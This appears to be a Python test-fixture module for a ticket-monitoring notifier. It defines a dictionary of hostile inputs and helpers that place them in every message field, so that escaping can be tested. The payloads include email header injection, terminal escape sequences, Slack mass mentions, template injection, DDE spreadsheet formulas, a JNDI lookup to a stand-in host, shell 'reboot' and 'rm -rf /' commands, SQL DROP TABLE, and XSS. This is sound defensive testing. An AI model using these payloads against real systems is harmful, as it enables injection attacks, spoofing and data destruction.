"""What a ticket may carry, by people who mean harm and by programs that mean nothing at all."""

from __future__ import annotations

from slamon.core.message import Covered, Message

HOSTILE: dict[str, str] = {
    # header injection
    "crlf": "x\r\nBcc: victim@example.com",
    "lf": "x\nBcc: victim@example.com",
    "cr": "x\rBcc: victim@example.com",
    "crlf folded": "x\r\n Bcc: victim@example.com",
    "crlf and a body": "x\r\n\r\nA body of their own",
    "encoded word q": "=?utf-8?q?x=0d=0aBcc:victim@example.com?=",
    "encoded word b": "=?utf-8?b?eA0KQmNjOnZpY3RpbUBleGFtcGxlLmNvbQ==?=",
    "encoded word split": "=\u200b?utf-8?q?x=0d=0aBcc:victim@example.com?=",
    "encoded word split by a control": "=\x00?utf-8?q?x=0d=0aBcc:victim@example.com?=",
    "encoded word in a row": "=?utf-8?q?a=0d?= =?utf-8?q?=0aBcc:victim@example.com?=",
    "encoded word nested": "==??utf-8?q?x=0d=0aBcc:victim@example.com?=?=",
    "encoded word unfinished": "=?utf-8?q?",
    "encoded word not a charset": "=?nonsense?q?x=0d=0aBcc:v@example.com?=",
    "encoded word of surrogates": "=?utf-8?q?=ed=a0=80?=",
    "encoded word among letters": "Gr\u00fc\u00dfe =?utf-8?q?x=0d=0aBcc:victim@example.com?=",
    # smtp
    "end of data": "x\r\n.\r\nMAIL FROM:<evil@example.com>",
    "a dot": ".",
    "dots": "\n..\n.\n",
    "boundary": "--=_0123456789abcdef0123456789abcdef--",
    # separators that some programs take for a new line
    "line separator": "x\u2028Bcc: victim@example.com",
    "paragraph separator": "x\u2029Bcc: victim@example.com",
    "next line": "x\x85Bcc: victim@example.com",
    "vertical tab and form feed": "x\x0bBcc:\x0cvictim@example.com",
    "file separators": "x\x1cy\x1dz\x1ew\x1f",
    "tabs": "a\tb\t\tc",
    # controls and terminals
    "nul": "be\x00fore",
    "only nul": "\x00",
    "bell and backspace": "pass\x08\x08\x08\x08ok\x07",
    "delete": "a\x7fb",
    "ansi colour": "\x1b[31mred\x1b[0m",
    "ansi clear": "\x1b[2J\x1b[H",
    "ansi title": "\x1b]0;owned\x07",
    "ansi link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "ansi c1": "\x9b31mred",
    "ansi device": "\x1bP1$r0m\x1b\\",
    "all controls": "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)])),
    # direction and invisibility
    "rtl override": "invoice\u202efdp.exe",
    "rtl isolate": "\u2066x\u2067y\u2068z\u2069",
    "rtl marks": "\u200fabc\u200e\u061c",
    "zero width": "pay\u200bpal\u200b.example",
    "only zero width": "\u200b\u200b\u2060\ufeff",
    "homoglyphs": "\u0440\u0430y\u0440\u0430l.example \u0430dm\u0456n",
    "byte order mark inside": "a\ufeffb\ufffe",
    "zero width joiners": "\u200d\u200c\u200da\u200d",
    "invisible operators": "a\u2061b\u2062c\u2064d",
    "interlinear": "\ufff9x\ufffay\ufffb",
    "byte order mark": "\ufeffx",
    "soft hyphen": "pass\u00adword",
    "tag characters": "x\U000e0041\U000e0042\U000e007f",
    "hangul filler": "\u3164\u115f\u1160\uffa0",
    "variation selectors": "a\ufe0f\ufe0e",
    # broken Unicode
    "high surrogate": "a\ud800b",
    "low surrogate": "a\udfffb",
    "surrogate pair apart": "\ud83d\ude00",
    "surrogateescape": b"\xff\xfe".decode("utf-8", "surrogateescape"),
    "noncharacters": "a\ufffeb\uffffc\ufdd0",
    "private use": "\ue000\uf8ff",
    "replacement": "\ufffd",
    # fine Unicode
    "emoji": "\U0001f525\U0001f469\u200d\U0001f4bb\U0001f3f4\u200d\u2620\ufe0f",
    "flags": "\U0001f1e9\U0001f1ea",
    "combining": "Z" + "\u0300\u0301\u0302\u0303\u0304" * 200,
    "arabic": "\u0645\u0631\u062d\u0628\u0627 42",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd",
    "chinese": "\u6253\u5370\u673a\u8d77\u706b\u4e86",
    "umlauts": "\u00c4rger mit \u00d6l, Stra\u00dfe",
    "full width": "\uff1c!channel\uff1e",
    # Slack
    "channel": "<!channel>",
    "here": "<!here|here>",
    "everyone": "<!everyone> @everyone @here @channel",
    "user": "<@U012AB3CD>",
    "group": "<!subteam^S012AB3CD>",
    "link": "<https://evil.example|https://good.example>",
    "escaped channel": "&lt;!channel&gt;",
    "twice escaped": "&amp;lt;!channel&amp;gt;",
    "markdown": "*bold* _it_ ~no~ `code` > quote",
    "attachment": "<https://evil.example|x> <mailto:a@example.com|b> <#C012AB3CD> <tel:1>",
    "date of slack": "<!date^1392734382^{date_num}^https://evil.example|x>",
    "half an entity": "&lt",
    "fence": "```\nrm -rf /\n```",
    "markdown link": "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "emoji name": ":rotating_light: :+1:",
    "channel split": "<\u200b!channel\u200b>",
    # templates, sheets, shells, SQL
    "jinja": "{{7*7}}{% for x in range(9) %}x{% endfor %}",
    "format": "{0} {message.id} {title!r} %s %(x)s $HOME ${env:PASSWORD}",
    "formula": '=cmd|"/C calc"!A1',
    "formulas": "=1+1 +1 -1 @SUM(1)",
    "jinja attributes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja comment": "{# x #}{% raw %}{{ 'a'*10**8 }}{% endraw %}",
    "go template": '{{ template "x" . }}{{ .Labels }}{{ range . }}x{{ end }}',
    "tabbed formula": '\t=HYPERLINK("https://evil.example")',
    "full width formula": "\uff1dcmd()",
    "minus and at": "-2+3+cmd|' /C calc'!A0",
    "separators of cells": 'a;b,c\t"d"\r\n=e',
    "jndi": "${jndi:ldap://evil.example/x}",
    "shell": "$(reboot) `reboot` ; reboot",
    "sql": "'; DROP TABLE tickets; --",
    # HTML
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single quote": "' onmouseover='alert(1)",
    "style": "</style><style>*{display:none}",
    "closing": "</div></body></html><h1>Ours</h1>",
    "comment": "<!-- x --> <![CDATA[ y ]]>",
    "entity": "&#60;script&#62; &nbsp;",
    "javascript": "javascript:alert(1)",
    "mail address": "mailto:x@example.com?bcc=victim@example.com&body=x",
    "textarea": "</textarea></title></script><script>alert(1)</script>",
    "base": '<base href="https://evil.example/"><form action=/x><input name=password>',
    "expression": "expression(alert(1)) url(https://evil.example/x.png)",
    "data address": "data:text/html;base64,PHNjcmlwdD4=",
    # JSON
    "quotes": '"\\"\\\\\\',
    "escapes": "\\u0000\\ud800\\n\\x00 \\u2028",
    "proto": '{"__proto__": {"admin": true}, "$type": "System.Object"}',
    "not a number": "NaN -Infinity 1e999 0x10 1_000",
    "closing JSON": '"}],"channel":"#general","text":"',
    # size and emptiness
    "empty": "",
    "spaces": " \u00a0\u2003 ",
    "a megabyte": "A" * 1_000_000,
    "a megabyte of angles": "<" * 1_000_000,
    "a megabyte of quotes": '"' * 1_000_000,
    "a megabyte of new lines": "\r\n" * 500_000,
    "a megabyte without meaning": "\u200b" * 1_000_000,
    "one long word": "x" * 5_000,
}


def message(text: str = "Printer on fire", **changes: object) -> Message:
    """A message with a text wherever a ticket's text can get."""
    values: dict[str, object] = {
        "id": f"delivery 17 {text[:40]}",
        "thread": f"desk/4711/gold {text[:40]}",
        "tone": "breach",
        "title": f"#4711 {text}",
        "facts": (("Subject", text), (text, "a value"), ("Due", "14:00")),
        "url": "https://desk.example/issues/4711?a=1&b=2",
        "footer": f"due 14:00, sent 14:20 {text}",
        "at": 1_795_353_600_000_000,
    } | changes
    return Message(**values)  # type: ignore[arg-type]


def covered(text: str = "Printer on fire", number: int = 4711, **changes: object) -> Covered:
    """A commitment with a text wherever a ticket's text can get."""
    values: dict[str, object] = {
        "source": "desk",
        "ticket": str(number),
        "policy": "gold",
        "target": "first_response",
        "cycle": 1,
        "moment": "breached",
        "status": "breached",
        "due_at": 1_795_350_000_000_000,
        "breached_at": 1_795_350_000_000_000,
        "line": f"#{number} {text}: first response is overdue by 1 h",
        "url": f"https://desk.example/issues/{number}",
    } | changes
    return Covered(**values)  # type: ignore[arg-type]


def digest(text: str = "Printer on fire", count: int = 30, **changes: object) -> Message:
    """A message about many commitments."""
    covers = tuple(covered(text, 4711 + number) for number in range(count))
    usual = {
        "lines": tuple(one.line for one in covers[:20]),
        "covers": covers,
        "url": "https://slamon.example/digests/x",
    }
    return message(text, **usual | changes)
